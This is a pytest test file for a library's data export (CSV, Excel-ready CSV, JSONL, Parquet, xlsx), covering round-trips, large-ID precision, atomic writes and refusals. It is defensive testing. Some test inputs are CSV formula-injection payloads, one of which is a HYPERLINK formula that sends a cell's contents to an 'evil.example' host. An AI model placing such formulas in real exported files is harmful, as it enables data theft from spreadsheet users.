"""Export: CSV that spreadsheets read right, and Parquet that round-trips; a full disk
leaves the file a write replaces whole."""

from __future__ import annotations

import csv
import functools
import io
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import socialframe as sf
from socialframe.sandbox import EXAMPLE_POSTS, IDLESS_POSTS, PinnedClock, Sandbox


@pytest.fixture(scope="module")
def frames() -> tuple[pd.DataFrame, pd.DataFrame]:
    with Sandbox(clock=PinnedClock()) as sandbox, sandbox.client(cache=False) as client:
        return client.post_comments(EXAMPLE_POSTS[82]), client.search_ads("running shoes")


def test_csv_keeps_ids_text_and_newlines(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    comments, _ = frames
    path = comments.social.to_csv(tmp_path / "comments.csv")
    raw = path.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert b"E+18" not in raw and b"e+18" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8"))))
    assert len(rows) == 82
    assert [r["comment_id"] for r in rows] == comments["comment_id"].tolist()
    assert [r["text"] for r in rows] == comments["text"].tolist()  # newlines, spaces, <script>
    assert any("\n" in r["text"] for r in rows)
    assert rows[0]["created_at"] == comments["created_at"].iloc[0].isoformat(
        timespec="microseconds"
    )
    assert rows[0]["created_at"].endswith("+00:00")  # RFC 3339
    back = pd.read_csv(path, dtype={"comment_id": str})
    assert back["comment_id"].tolist() == comments["comment_id"].tolist()


def test_csv_lists_are_json(frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    _, ads = frames
    path = ads.social.to_csv(tmp_path / "ads.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [json.loads(r["publisher_platforms"]) for r in rows] == ads[
        "publisher_platforms"
    ].tolist()
    assert json.loads(rows[0]["snapshot_cards"]) == ads["snapshot_cards"].iloc[0]
    assert [r["ad_archive_id"] for r in rows] == ads["ad_archive_id"].tolist()


def test_csv_for_excel(frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path) -> None:
    comments, _ = frames
    path = comments.social.to_csv(tmp_path / "excel.csv", excel=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0]["comment_id"] == f'="{comments["comment_id"].iloc[0]}"'
    assert [r["text"] for r in rows] == comments["text"].tolist()
    assert rows[0]["author_name"] == comments["author_name"].iloc[0]  # non-ASCII kept


def test_derived_ids_are_exported_as_the_text_they_are(tmp_path: Path) -> None:
    with Sandbox(clock=PinnedClock()) as sandbox, sandbox.client(cache=False) as client:
        comments = client.post_comments(IDLESS_POSTS["some"])
    derived = comments[comments["id_derived"]]
    assert len(derived) == 25
    plain = comments.social.to_csv(tmp_path / "plain.csv")
    back = pd.read_csv(plain, dtype={"comment_id": str})
    assert back["comment_id"].tolist() == comments["comment_id"].tolist()
    assert back["id_derived"].tolist() == comments["id_derived"].tolist()  # a flag, read back
    excel = comments.social.to_csv(tmp_path / "excel.csv", excel=True)
    rows = list(csv.DictReader(io.StringIO(excel.read_text("utf-8-sig"), newline="")))
    shown = {r["comment_id"]: r["id_derived"] for r in rows}
    for cid in derived["comment_id"]:  # text as it is: ="..." is for ids of digits only
        assert shown[cid] == "True"
    assert sf.read_frame(excel)["comment_id"].tolist() == comments["comment_id"].tolist()


def _as_lists(value: object) -> object:
    if hasattr(value, "tolist") and not isinstance(value, str | pd.Timestamp):
        value = value.tolist()  # type: ignore[union-attr]
    if isinstance(value, list):
        return [_as_lists(v) for v in value]
    if isinstance(value, dict):
        return {k: _as_lists(v) for k, v in value.items()}
    return value


@pytest.mark.parametrize("which", [0, 1])
def test_parquet_round_trips_every_column(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path, which: int
) -> None:
    frame = frames[which]
    path = tmp_path / "frame.parquet"
    frame.to_parquet(path)
    back = pd.read_parquet(path)
    assert list(back.columns) == list(frame.columns)
    for name in frame.columns:
        assert str(back[name].dtype) == str(frame[name].dtype), name
        if frame[name].dtype == object:
            # pyarrow hands lists back as numpy arrays: same values, same order
            assert [_as_lists(v) for v in back[name]] == [_as_lists(v) for v in frame[name]], name
        else:
            pd.testing.assert_series_equal(back[name], frame[name], check_exact=True)
    assert back.social.kind == frame.social.kind


def test_parquet_frames_still_analyse(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    _, ads = frames
    ads.to_parquet(tmp_path / "ads.parquet")
    back = pd.read_parquet(tmp_path / "ads.parquet")
    pd.testing.assert_frame_equal(back.social.by_page(), ads.social.by_page())


def test_csv_numeric_ids_and_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "page_id": pd.array([7384427202391592960, None], dtype="Int64"),
            "author_company_id": [94275825.0, None],
            "text": ['=HYPERLINK("http://evil","x")', "+1 great"],
        }
    )
    plain = list(csv.DictReader(io.StringIO(frame.social.to_csv(tmp_path / "p.csv").read_text())))
    assert [r["page_id"] for r in plain] == ["7384427202391592960", ""]
    assert plain[0]["author_company_id"] == "94275825"
    assert plain[0]["text"] == '=HYPERLINK("http://evil","x")'  # plain CSV keeps text exactly
    path = frame.social.to_csv(tmp_path / "x.csv", excel=True)
    excel = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert excel[0]["page_id"] == '="7384427202391592960"'
    assert [r["text"] for r in excel] == ['\'=HYPERLINK("http://evil","x")', "'+1 great"]


# -- every export reads back row for row, whatever the text holds ----------------------------

#: What breaks readers of text files: line breaks of every kind, NUL, escapes, quotes,
#: separators, what spreadsheets run, Unicode's own line and paragraph separators, a BOM,
#: NEL, OOXML's escapes, words that readers take for missing values.
TRICKY = (
    "\r", "\n", "\r\n", "\n\r", "\x00", "\x1b[31m", '"', '""', "'", ",", ";", "\t", "=",
    "+", "-", "@", "\u2028", "\u2029", "\ufeff", "\x85", "\x0b", "\x0c", "#", " ", "é",
    "😀", "_x000D_", "NA", "null", "None", "True", "[1]", '{"a"', "\\", "\\N",
    "\u200b", ";=", ",@", "\t-",
)  # fmt: skip


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [str(n) for n in frame.columns if isinstance(frame[n].dtype, pd.StringDtype)]


def _missing(value: object) -> object:
    return None if value is None or value is pd.NA else value


def _blank(value: object) -> object:
    """A CSV holds no difference between an empty text and a missing one."""
    return None if _missing(value) is None or value == "" else value


def _xml(value: object) -> object:
    """A text as .xlsx holds it (see df.social.to_file): control characters as U+FFFD, a CR
    as a line feed (XML keeps none), cut at Excel's 32,767 characters."""
    if not isinstance(value, str):
        return _blank(value)
    kept = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", value)
    kept = kept.replace("\r\n", "\n").replace("\r", "\n")
    if len(kept) > 32_767:
        kept = kept[:32_766] + "…"
    return _blank(kept)


def _read_back(frame: pd.DataFrame, folder: Path) -> None:
    """``frame`` through every export and back: every row, every text as it was."""
    texts = _text_columns(frame)
    for name, excel, exact in (
        ("plain.csv", False, False),
        ("excel.csv", True, False),
        ("rows.jsonl", False, True),
        ("rows.parquet", False, True),
    ):
        path = folder / name
        frame.social.to_file(path, excel=excel)
        back = sf.read_frame(path)
        assert len(back) == len(frame), name
        for column in texts:
            keep = _missing if exact else _blank
            wanted = [keep(v) for v in frame[column].astype(object)]
            got = [keep(v) for v in back[column].astype(object)]
            assert got == wanted, (name, column)
    # pandas' own reader, on the plain CSV (exact data for programs)
    plain = pd.read_csv(folder / "plain.csv", dtype=str, keep_default_na=False)
    assert len(plain) == len(frame)
    for column in texts:
        assert [_blank(v) for v in plain[column]] == [_blank(v) for v in frame[column]], column
    # and .xlsx, as openpyxl reads it
    frame.social.to_file(folder / "book.xlsx")
    book = pd.read_excel(folder / "book.xlsx", dtype=str, keep_default_na=False)
    assert len(book) == len(frame)
    for column in texts:
        assert [_blank(v) for v in book[column]] == [_xml(v) for v in frame[column]], column


@functools.cache
def _examples() -> pd.DataFrame:
    """The sandbox's example comments, made once (a fetch from the sandbox each): copy."""
    from socialframe.sandbox import example_comments

    return example_comments()


def _with_texts(rows: list[list[str | None]]) -> pd.DataFrame:
    """The sandbox's comments, cut to ``len(rows)``, their text columns holding ``rows``."""
    frame = _examples().head(len(rows)).reset_index(drop=True).copy()
    for number, column in enumerate(_text_columns(frame)):
        values = [row[number % len(row)] for row in rows]
        frame[column] = pd.array(values, dtype=frame[column].dtype)
    return frame


_TEXT = st.lists(st.one_of(st.sampled_from(TRICKY), st.text(max_size=4)), max_size=6).map("".join)


@pytest.mark.slow  # many examples, five files each
@settings(max_examples=60, deadline=None)
@given(
    rows=st.lists(
        st.lists(st.one_of(st.none(), _TEXT), min_size=1, max_size=5), min_size=1, max_size=4
    )
)
def test_every_export_reads_back_row_for_row_whatever_the_text_holds(
    rows: list[list[str | None]],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        _read_back(_with_texts(rows), Path(folder))


@pytest.mark.parametrize(
    "text",
    [
        "a bare\rCR",
        "CRLF\r\nand LF\nand CR\r",
        "\r",
        "NUL \x00 and ESC \x1b[2J",
        'quotes "" and "',
        "\u2028line separator\u2029paragraph",
        "\ufeffa BOM first",
        "=1+1",
        "'=1+1",
        "''@x",
        "\x00=1+1",
        "hi;=1+1, ok,\u200b@x\n\t-1",
        '="7384427202391592960"',
        "x" * 100_000,
    ],
    ids=lambda t: repr(t[:24]),
)
def test_each_hard_text_reads_back_from_every_export(text: str, tmp_path: Path) -> None:
    frame = _with_texts([[text, "plain", None], ["second row", text, ""]])
    _read_back(frame, tmp_path)


def test_a_bare_cr_is_quoted_in_the_plain_csv_and_rows_end_in_lf(tmp_path: Path) -> None:
    """Python's csv quotes the characters of its line end only (LF here): a bare CR went
    out unquoted, and pandas read 84 rows instead of 82."""
    from socialframe.sandbox import example_comments

    comments = example_comments()
    comments.loc[[3, 40], "text"] = ["one\rtwo", "end with CR\r"]
    path = comments.social.to_csv(tmp_path / "c.csv")
    raw = path.read_bytes()
    assert b'"one\rtwo"' in raw and b'"end with CR\r"' in raw
    assert raw.count(b"\r") == 2  # rows end in LF: the only CRs are the texts'
    assert len(pd.read_csv(path, dtype=str)) == 82
    with path.open(newline="", encoding="utf-8") as handle:
        assert len(list(csv.reader(handle))) == 83


def test_a_lone_surrogate_becomes_a_replacement_mark_and_the_row_stays(tmp_path: Path) -> None:
    """UTF-8, Parquet and XML cannot hold one (a frame of ours never does: the service's
    text is cleaned; a frame a user builds may): written as U+FFFD, every row kept."""
    frame = pd.DataFrame(
        {
            "text": pd.Series(
                ["half \ud83d of an emoji", "a pair \ud83d\ude00 joins", None], dtype=object
            ),
            "tags": [["ok", "\udcff"], [], None],
            "n": [1, 2, 3],
        }
    )
    for name in ("s.csv", "s.jsonl", "s.parquet", "s.xlsx"):
        frame.social.to_file(tmp_path / name)
    assert pd.read_csv(tmp_path / "s.csv")["text"].tolist()[:2] == [
        "half \ufffd of an emoji",
        "a pair 😀 joins",
    ]
    lines = (tmp_path / "s.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["tags"] for line in lines] == [["ok", "\ufffd"], [], None]
    assert pd.read_parquet(tmp_path / "s.parquet")["text"].tolist()[0] == "half \ufffd of an emoji"
    assert len(pd.read_excel(tmp_path / "s.xlsx")) == 3


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("7384427202391592960", '="7384427202391592960"'),
        (
            '1"&HYPERLINK("http://evil.example/?"&G2,"open")&"',
            '1"&HYPERLINK("http://evil.example/?"&G2,"open")&"',
        ),
        ("=1+1", "'=1+1"),
        ("-5", "'-5"),
        ('="5"', '\'="5"'),
        ("urn:li:person:ABC", "urn:li:person:ABC"),
    ],
)
def test_excel_ids_of_digits_alone_become_a_formula_and_read_back(
    value: str, written: str, tmp_path: Path
) -> None:
    """``="<id>"`` was written around any id, unescaped: an id holding
    ``1"&HYPERLINK(...)&"`` became a live formula (LibreOffice showed ``1open``)."""
    frame = _with_texts([[value]])
    path = frame.social.to_file(tmp_path / "x.csv", excel=True)
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["author_id"] == written
    assert sf.read_frame(path)["author_id"].tolist() == [value]


FULL_DISK = """
import resource, signal, sys
from socialframe.sandbox import example_comments
frame = example_comments()
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (16_384, 16_384))
try:
    frame.social.to_file(sys.argv[1])
except OSError as exc:
    print("OSError", exc.errno)
"""


@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".parquet"])
def test_a_full_disk_leaves_the_old_file_whole(tmp_path: Path, suffix: str) -> None:
    """What every output goes through, here ``df.social.to_file`` (the command line
    maps the OSError to exit 5)."""
    out = tmp_path / f"out{suffix}"
    out.write_bytes(b"the old file\n")
    done = subprocess.run(
        [sys.executable, "-c", FULL_DISK, str(out)], capture_output=True, text=True, timeout=120
    )
    assert done.stdout.startswith("OSError"), done.stdout + done.stderr
    assert out.read_bytes() == b"the old file\n"  # (before: cut to a 16 KB fragment)
    assert [p.name for p in tmp_path.iterdir()] == [out.name]  # no leftovers


def test_to_file_writes_the_format_its_suffix_names_and_refuses_before_writing(
    tmp_path: Path,
) -> None:
    """``df.social.to_file``: the library's door to every format ``-o`` writes."""
    from socialframe.sandbox import example_comments

    comments = example_comments()
    for name in ("c.jsonl", "c.parquet"):  # exact formats: the frame itself comes back
        assert comments.social.to_file(tmp_path / name) == tmp_path / name
        pd.testing.assert_frame_equal(sf.read_frame(tmp_path / name), comments)
    for name, excel in (("c.csv", False), ("e.csv", True), ("c.xlsx", False)):
        back = sf.read_frame(comments.social.to_file(tmp_path / name, excel=excel))
        assert back.dtypes.equals(comments.dtypes) and len(back) == len(comments), name
        assert back["comment_id"].tolist() == comments["comment_id"].tolist()
    assert (tmp_path / "e.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # for spreadsheets
    assert not (tmp_path / "c.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    written = sorted(p.name for p in tmp_path.iterdir())
    for path, excel, said in (
        (tmp_path / "c.txt", False, "the suffix chooses the format"),
        (tmp_path / "x.xlsx", True, "(excel=True) is for a .csv file"),
        ("-", False, "not standard output"),
        ("/dev/stdout", False, "not standard output"),
        ("/dev/fd/1", False, "not standard output"),
    ):
        with pytest.raises(ValueError, match=re.escape(said)):
            comments.social.to_file(path, excel=excel)
    assert sorted(p.name for p in tmp_path.iterdir()) == written


# -- df.social.to_file, found by review (s12): each of these fails on 55c7a82 ------------

#: A comment id of 19 digits, past 2**53 (a float holds it as ...524992).
BIG_ID = 7394323847149525395


@pytest.mark.parametrize("name", ["./-", "/dev/stdout", "/dev/fd/1", "/proc/self/fd/1"])
def test_to_file_refuses_standard_output_by_any_name(
    name: str, capfd: pytest.CaptureFixture[str]
) -> None:
    """``"-"`` is refused, but ``"./-"`` (``Path`` makes it ``-``) and the names
    ``files.STANDARD_OUTPUT`` maps to it wrote the whole frame as CSV to standard
    output, whatever the suffix, and returned that name as the path written."""
    frame = pd.DataFrame({"comment_id": [str(BIG_ID)], "text": ["hi"]})
    with pytest.raises(ValueError):
        frame.social.to_file(name)
    assert str(BIG_ID) not in capfd.readouterr().out


@pytest.mark.parametrize(("name", "excel"), [("x.csv", False), ("x.csv", True), ("x.jsonl", False)])
def test_to_file_writes_an_id_held_as_a_whole_number_with_every_digit(
    tmp_path: Path, name: str, excel: bool
) -> None:
    """An object column of Python ints and a missing value: well_formed's
    ``Series.map`` made it float64, and the id was written 7394323847149524992
    (CSV, CSV for spreadsheets, .xlsx) or 7.394323847e+18 (.jsonl)."""
    frame = pd.DataFrame({"comment_id": pd.Series([BIG_ID, None], dtype=object)})
    path = frame.social.to_file(tmp_path / name, excel=excel)
    assert str(BIG_ID) in path.read_text(encoding="utf-8-sig")


@pytest.mark.parametrize(
    "values", [[BIG_ID, None], [BIG_ID, "urn:li:company:1"]], ids=["missing", "text"]
)
def test_xlsx_writes_an_id_held_as_a_number_as_its_digits(
    tmp_path: Path, values: list[object]
) -> None:
    """``.xlsx`` "keeps every id as text": an object id column holding ints (with text,
    or a missing value) was written as the number 7.394323847149525e+18."""
    import openpyxl

    frame = pd.DataFrame({"author_id": pd.Series(values, dtype=object)})
    path = frame.social.to_file(tmp_path / "x.xlsx")
    cell = openpyxl.load_workbook(path).active["A2"]
    assert (cell.data_type, cell.value) == ("s", str(BIG_ID))


def test_to_file_keeps_the_index_or_refuses(tmp_path: Path) -> None:
    """A count by author holds the authors in its index: every format wrote the
    counts alone (``set_index("comment_id")`` lost every comment id so)."""
    from socialframe.sandbox import example_comments

    counts = example_comments().groupby("author_name").size().rename("comments").to_frame()
    readers = {
        ".csv": pd.read_csv,
        ".jsonl": functools.partial(pd.read_json, lines=True),
        ".parquet": pd.read_parquet,
        ".xlsx": pd.read_excel,
    }
    for suffix, read in readers.items():
        try:
            path = counts.social.to_file(tmp_path / f"counts{suffix}")
        except ValueError:
            continue  # (refused, saying so: as good)
        back = read(path)
        assert "author_name" in [*back.columns, back.index.name], suffix


def test_jsonl_keeps_fifteen_significant_digits_of_a_float(tmp_path: Path) -> None:
    """pandas' to_json writes 10 significant digits unless told: 0.12345678901234 was
    written 0.123456789. Now 15, its most (.csv and .parquet keep every digit)."""
    frame = pd.DataFrame({"score": [0.12345678901234, 1 / 3, 123456.789012345]})
    path = frame.social.to_file(tmp_path / "s.jsonl")
    back = [json.loads(line)["score"] for line in path.read_text().splitlines()]
    assert back[0] == 0.12345678901234 and back[2] == 123456.789012345
    assert back[1] == float(f"{1 / 3:.15g}")
    assert pd.read_csv(frame.social.to_file(tmp_path / "s.csv"))["score"].tolist() == (
        frame["score"].tolist()
    )
    assert pd.read_parquet(frame.social.to_file(tmp_path / "s.parquet")).equals(frame)


def test_to_file_refuses_duplicate_column_names_with_a_value_error(tmp_path: Path) -> None:
    """``to_file`` raises ValueError or OSError; a CSV of two columns ``a`` raised
    AttributeError ('DataFrame' object has no attribute 'dtype')."""
    frame = pd.DataFrame([[1, 2]], columns=["a", "a"])
    for name, excel in (("d.csv", False), ("e.csv", True), ("d.jsonl", False)):
        with pytest.raises(ValueError):
            frame.social.to_file(tmp_path / name, excel=excel)


@pytest.mark.parametrize("name", ["a.csv", "a.jsonl", "a.parquet", "a.xlsx"])
def test_to_file_ads_read_back_with_the_frames_dtypes(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path, name: str
) -> None:
    """Every column the ads schema types comes back with its dtype, from every format;
    the service's extra columns as the file tells (.jsonl: its flags and counts came
    back as object; a CSV holds no difference between a number and text)."""
    _, ads = frames
    back = sf.read_frame(ads.social.to_file(tmp_path / name))
    assert list(back.columns) == list(ads.columns)
    typed = [c for c in ads.columns if c in sf.AD_COLUMNS]
    assert len(typed) == len(sf.AD_COLUMNS)
    assert back[typed].dtypes.equals(ads[typed].dtypes)
    extra = {str(ads[c].dtype): str(back[c].dtype) for c in ads.columns if c not in typed}
    if name == "a.jsonl":
        assert extra["boolean"] == "boolean" and extra["Int64"] == "Int64"
    if name == "a.parquet":
        assert all(k == v for k, v in extra.items() if k != "object")  # (but all-missing ones)


TERMINATED = """
import sys
import pandas as pd
from socialframe.sandbox import example_comments
frame = pd.concat([example_comments()] * 600, ignore_index=True)
print("ready", flush=True)
frame.social.to_file(sys.argv[1])
"""


def _sigterm_mid_write(
    script: str, out: Path, *, deadline: float, pause: float = 0.0
) -> tuple[int, float]:
    """Run ``script`` (which says ``ready``, then writes ``out``); once its partial file
    is there (and ``pause`` seconds more), send it SIGTERM. It must end by that signal.

    Returns:
        Its process id, and the seconds from the signal to its end.
    """
    import signal
    import time

    with subprocess.Popen(
        [sys.executable, "-c", script, str(out)], stdout=subprocess.PIPE, text=True
    ) as child:
        assert child.stdout is not None and child.stdout.readline() == "ready\n"
        until = time.monotonic() + deadline
        while not any(p.name.startswith(".sf-") for p in out.parent.iterdir()):
            assert time.monotonic() < until and child.poll() is None, "wrote before SIGTERM"
            time.sleep(0.005)
        time.sleep(pause)
        sent = time.monotonic()
        child.send_signal(signal.SIGTERM)
        assert child.wait(timeout=120) == -signal.SIGTERM
        return child.pid, time.monotonic() - sent


@pytest.mark.slow
def test_a_write_killed_mid_way_leaves_a_file_the_next_write_there_removes(
    tmp_path: Path,
) -> None:
    """SIGTERM (``timeout``, ``docker stop``; SIGHUP, SIGKILL alike) ends a writer at
    once: the old file stays whole, and the partial one (119 MB for 246,000 rows in a
    review) stays too, named by its writer's process id. The next write into the folder
    removes it once it is an hour old and its writer is gone; never a running writer's."""
    import os
    import time

    out = tmp_path / "out.csv"
    out.write_bytes(b"the old file\n")
    pid, _ = _sigterm_mid_write(TERMINATED, out, deadline=60)
    assert out.read_bytes() == b"the old file\n"
    (left,) = (p for p in tmp_path.iterdir() if p.name != out.name)
    assert left.name.startswith(f".sf-{pid}-")
    running = tmp_path / f".sf-{os.getpid()}-0123456789abcdef"  # this process: running
    running.write_bytes(b"being written")
    frame = pd.DataFrame({"text": ["new"]})
    frame.social.to_file(tmp_path / "other.csv")
    assert left.exists()  # (not an hour old yet: a writer elsewhere may still touch it)
    hour_ago = time.time() - 3700
    for path in (left, running):
        os.utime(path, (hour_ago, hour_ago))
    frame.social.to_file(tmp_path / "other.csv")
    assert not left.exists() and running.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["out.csv", "other.csv", running.name]
    )


# -- the fixes of c96ba7f, found by review (s12b): each of these fails on c96ba7f --------


@pytest.mark.parametrize("column", ["comment_id", "created_at"])
def test_to_file_writes_a_frame_indexed_by_one_of_its_own_columns(
    tmp_path: Path, column: str
) -> None:
    """``set_index(column, drop=False)`` (the ids or times kept as a column too, for
    ``.loc``) wrote every format on eff4f77; ``well_formed``'s ``reset_index()`` now
    raises pandas' "cannot insert comment_id, already exists" for every suffix, though
    the index holds nothing its column does not."""
    from socialframe.sandbox import example_comments

    comments = example_comments()
    indexed = comments.set_index(column, drop=False)
    for suffix in (".csv", ".jsonl", ".parquet", ".xlsx"):
        back = sf.read_frame(indexed.social.to_file(tmp_path / f"c{suffix}"))
        assert back["comment_id"].tolist() == comments["comment_id"].tolist(), suffix


def test_jsonl_reads_an_extra_count_back_with_every_digit(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    """``read_frame``'s new ``infer_objects().convert_dtypes()`` on a .jsonl extra
    column: Python ints beside a null went through float64, and 7394323847149525395 came
    back 7394323847149524992 (eff4f77 gave the exact ints back): the rounding the
    export's ``_cells`` removed, moved to the reader."""
    comments, _ = frames
    frame = comments.head(3).assign(
        reshared_activity=pd.array([BIG_ID, None, BIG_ID + 2], dtype="Int64")
    )
    back = sf.read_frame(frame.social.to_file(tmp_path / "c.jsonl"))
    assert back["reshared_activity"].iloc[[0, 2]].tolist() == [BIG_ID, BIG_ID + 2]


def test_jsonl_reads_a_float_column_of_whole_numbers_back_as_floats(
    frames: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    """A Float64 extra column whose values happen to be whole (1.0, 2.0) came back Int64
    from .jsonl (``convert_dtypes`` makes whole floats integers), Float64 from .parquet:
    the dtype of a column read back depends on its values."""
    comments, _ = frames
    frame = comments.head(3).assign(score=pd.array([1.0, 2.0, None], dtype="Float64"))
    for suffix in (".jsonl", ".parquet"):
        back = sf.read_frame(frame.social.to_file(tmp_path / f"c{suffix}"))
        assert str(back["score"].dtype) == "Float64", suffix


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame([[10, 20]], columns=[1, "1"]),
        pd.DataFrame({"1": [20]}, index=pd.Index([10], name=1)),
    ],
    ids=["columns", "index"],
)
@pytest.mark.parametrize("suffix", [".jsonl", ".parquet"])
def test_to_file_refuses_two_columns_whose_names_are_one_text(
    tmp_path: Path, frame: pd.DataFrame, suffix: str
) -> None:
    """Names ``1`` and ``"1"`` are two to pandas and one in every file, and passed the
    check of two columns of one name: .jsonl wrote ``{"1":10,"1":20}`` (every reader
    keeps the last: a column lost silently), .parquet a file pyarrow cannot read
    (ArrowInvalid: Multiple matches for FieldRef.Name(1))."""
    with pytest.raises(ValueError, match="two columns are named '1'"):
        frame.social.to_file(tmp_path / f"x{suffix}")


def test_to_file_keeps_an_index_of_labels_without_a_name(tmp_path: Path) -> None:
    """The docs: "an unnamed one (row numbers) is left out"; but ``describe()``'s and
    ``corr()``'s indexes have no name and are no row numbers: the file held eight
    numbers without saying which is the mean."""
    from socialframe.sandbox import example_comments

    stats = example_comments()[["author_followers", "page"]].astype(float).describe()
    text = stats.social.to_file(tmp_path / "stats.csv").read_text()
    assert "mean" in text and "max" in text


MILLION_ROWS = """
import sys, time
import pandas as pd
from socialframe.sandbox import example_comments
frame = pd.concat([example_comments()] * 12_200, ignore_index=True)  # 1,000,400 rows
print("ready", flush=True)
frame.social.to_file(sys.argv[1])
"""


@pytest.mark.slow
def test_sigterm_ends_a_long_csv_write_at_once(tmp_path: Path) -> None:
    """SIGTERM's default action ended the process at once (eff4f77: 0.03 s). Python runs
    a handler only between bytecodes, and ``csv_ready`` spends whole seconds in single C
    calls (``dt.strftime`` of a million times: 8 s here): with a handler that removed the
    partial file (c96ba7f) the process went on for 9 to 10 s after SIGTERM, as long as
    ``docker stop`` waits before SIGKILL. The default is kept."""
    out = tmp_path / "out.csv"
    pid, ending = _sigterm_mid_write(MILLION_ROWS, out, deadline=120, pause=0.3)
    assert ending < 2.0
    # (the partial file stays, as SIGKILL leaves it: the next write there removes it)
    assert [p.name.startswith(f".sf-{pid}-") for p in tmp_path.iterdir()] == [True]
